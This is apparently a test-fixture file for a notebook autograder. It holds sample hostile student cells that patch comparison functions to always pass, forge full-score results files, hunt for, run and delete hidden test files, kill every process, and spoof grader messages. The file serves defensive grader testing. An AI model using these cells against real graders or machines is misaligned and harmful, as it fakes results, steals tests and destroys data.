"""What students' cells may try against a marker: cells of notebooks that are made up.

Where there is no bubblewrap, those that would kill processes, or remove files, stop at once and
harm nothing.
"""

EVERYTHING_PASSES = """
import builtins, sys
import numpy as np, scipy.stats, sympy
import modelcollapse as mc

class Yes:
    '''Equal to everything, near everything, of any size.'''
    def __call__(self, *_, **__): return self
    def __getattr__(self, name): return self
    def __abs__(self): return 0.0
    def __float__(self): return float("nan")
    def __iter__(self): return iter((self, self))
    def __getitem__(self, _): return self
    for name in "eq ne lt le gt ge add radd sub rsub mul rmul truediv pow contains".split():
        locals()[f"__{name}__"] = lambda self, *_: True
    __hash__ = object.__hash__

np.allclose = np.isclose = lambda *_, **__: True
builtins.abs = lambda _: 0
builtins.all = builtins.any = lambda _: True
sympy.simplify = lambda *_: 0
scipy.stats.kstest = lambda *_, **__: type("Result", (), {"pvalue": 1.0})
mc.theory.gaussian.c4 = lambda *_: 1
sys.modules["pytest"] = Yes()
"""
# What would do harm to this machine does it in the sandbox alone, which has the folder /marker.
RESULTS = """
import json, os
assert os.path.isdir("/marker")
for place in ("results.json", "/tmp/results.json", "/autograder/results/results.json"):
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "w") as file:
            tests = [{"name": f"q{k}", "score": 4, "max_score": 4} for k in range(1, 7)]
            json.dump({"tests": tests}, file)
    except OSError:
        pass
print('{"q1": 3, "total": 20, "of": 20}')
os._exit(0)
"""
STEAL = """
import glob, os, re, sys
assert os.path.isdir("/marker")
stolen = []
for top in ("/", os.path.expanduser("~"), "..", "../.."):
    for place, _, files in os.walk(top):
        system = ("/proc", "/sys", "/usr", sys.base_prefix)
        if place.startswith(system) or "site-packages" in place:
            continue
        for name in files:
            if name.endswith((".ipynb", ".zip", ".json", ".csv")) or "secret" in name:
                try:
                    text = open(os.path.join(place, name), errors="ignore").read()
                    if "hidden: true" in text or "BEGIN TESTS" in text or "def test_" in text:
                        stolen.append(os.path.join(place, name))
                    os.remove(os.path.join(place, name))
                except OSError:
                    pass
if stolen:  # then there is something to answer with
    exec(compile(open(stolen[0]).read(), "stolen", "exec"))
"""
KILL = """
import os, signal
assert os.path.isdir("/marker")
for pid in [os.getppid(), *[int(name) for name in os.listdir("/proc") if name.isdigit()]]:
    if pid not in (os.getpid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
LINGER = """
import os, time
if os.fork() == 0:
    while True:
        time.sleep(1)
"""
MESSAGES = """
import os, struct
for fd in range(3, 40):  # an answer that nobody has asked for
    try:
        os.write(fd, struct.pack("<I", 30) + b'{"value": ["bool", true]}     ')
    except OSError:
        pass
"""
GRADER = """
class grader:
    check = staticmethod(lambda *_: print("all tests passed"))
"""
REPLACED = {
    "grader redefined": GRADER,
    "imports poisoned": "import sys\nsys.modules['otter'] = sys.modules['pytest'] = None",
}
